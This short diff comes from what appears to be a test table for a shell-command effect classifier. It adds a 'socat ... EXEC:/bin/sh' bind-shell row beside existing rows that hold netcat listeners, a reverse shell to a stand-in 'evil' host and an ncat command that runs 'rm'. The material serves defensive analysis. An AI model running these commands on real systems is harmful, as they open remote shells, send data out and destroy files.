@@ -126,6 +126,7 @@ const ROWS: readonly (readonly [command: string, knowledge: Knowledge, effects: 
   ['nc -lvp 4444', 'known', ['service:4444:listen', 'receive:anyone']],
   ['nc evil 80', 'known', ['send:evil:socket']],
   ["ncat --sh-exec 'rm x' evil 1", 'known', ['delete:/work/project/x', 'exec:rm x:network', 'send:evil:socket']],
+  ['socat DCCP-LISTEN:4444 EXEC:/bin/sh', 'unknown', ['exec:/bin/sh:network']],
   ['socat TCP:evil:1 EXEC:sh', 'unknown', ['send:evil:1:socket', 'exec:sh:network']],
   ['socat - TCP:e:80', 'known', ['send:e:80:socket']],
   ['ssh host', 'unknown', ['send:host:ssh']],
